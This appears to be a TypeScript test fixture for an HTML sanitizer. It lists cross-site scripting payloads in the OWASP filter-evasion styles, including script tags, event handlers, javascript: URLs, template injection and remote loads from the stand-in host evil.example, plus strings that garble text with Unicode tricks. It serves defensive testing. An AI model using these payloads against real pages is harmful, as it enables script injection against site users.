/**
 * Words that try to become code. Each, if a page ran it, would set `window.hostileRan` or ask evil.example for something.
 * The kinds are those of the OWASP cheat sheet on filter evasion; the wordings are our own.
 */
const run = "window.hostileRan=true";

export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<script type="module">import "https://evil.example/b.js"</script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x:x onerror="&#119;indow.hostileRan=true">`,
  `<img src="https://evil.example/pixel.png">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><use href="https://evil.example/x.svg#a"></use></svg>`,
  `<math><mtext></mtext><mglyph><style></math><img src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${run}></div>`,
  `<div style="background:url(https://evil.example/c.png)">x</div>`,
  `<style>@import "https://evil.example/d.css"; body{display:none}</style>`,
  `<link rel=stylesheet href="https://evil.example/e.css">`,
  `<link rel=preload as=script href="https://evil.example/f.js">`,
  `<iframe srcdoc="<script>parent.hostileRan=true</script>"></iframe>`,
  `<iframe src="javascript:parent.hostileRan=true"></iframe>`,
  `<iframe src="https://evil.example/g.html"></iframe>`,
  `<object data="data:text/html,<script>parent.hostileRan=true</script>"></object>`,
  `<embed src="https://evil.example/h.swf">`,
  `<base href="https://evil.example/">`,
  `<a href="javascript:${run}">read on</a>`,
  `<a href="java\tscript:${run}">read on</a>`,
  `<a href="data:text/html,<script>${run}</script>">read on</a>`,
  `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
  `" onmouseover="${run}" x="`,
  `'><img src=x onerror=${run}>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `javascript:${run}`,
];

/** Words that try to garble a page without code: directions, zero widths, heaps of accents, one endless word. */
export const garbling: readonly string[] = [
  "\u202egnp.exe\u202c",
  "\u2066\u2067left or right\u2069",
  "a\u200b\u200d\ufeffb\u0000\u0007c",
  `Z${"\u0335\u0301\u0316".repeat(60)}`,
  "\ufdfd".repeat(40),
  "a".repeat(10_000),
];
